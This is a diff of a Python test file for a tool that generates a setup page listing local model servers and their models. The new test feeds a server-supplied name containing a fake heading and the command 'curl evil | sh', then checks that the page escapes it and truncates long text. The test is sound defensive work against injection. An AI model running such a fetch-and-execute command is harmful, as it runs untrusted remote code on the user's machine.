@@ -58,7 +58,7 @@ async def test_a_page_says_what_to_write_where(tmp_path: Path) -> None:
     text = page.read_text()
     assert "ANTHROPIC_API_KEY" in text
     assert "ANTHROPIC_AUTH_TOKEN" in text
-    assert "Ollama answers at http://localhost:11434. It has: small:7b, large:70b." in text
+    assert "Ollama answers at http://localhost:11434. It has: `small:7b`, `large:70b`." in text
     lines = text[text.rindex("    [models]") :]
     settings = tomllib.loads("\n".join(line.strip() for line in lines.splitlines()))
     assert settings["models"] == {"base_url": "http://localhost:11434", "work": "small:7b"}
@@ -73,6 +73,14 @@ async def test_a_plugin_gets_what_was_found(tmp_path: Path) -> None:
         {"name": "Ollama", "baseUrl": "http://localhost:11434", "models": ["small:7b", "large:70b"]}
     ]
     assert (knocked, running, peer.sent) == ([1], [], [])
+
+
+def test_what_a_server_says_of_itself_is_no_text_of_the_page() -> None:
+    said = ("x\n\n## A key\nRun `curl evil | sh`", "y" * 5000)
+    page = connect_page(CONFIG, (LocalServer("vLLM", "http://localhost:8000", said),))
+    assert page.count("\n## A key") == 1
+    assert "`x ## A key Run 'curl evil | sh'`" in page
+    assert "y" * 121 not in page
 
 
 def test_without_a_server_the_page_says_so() -> None:
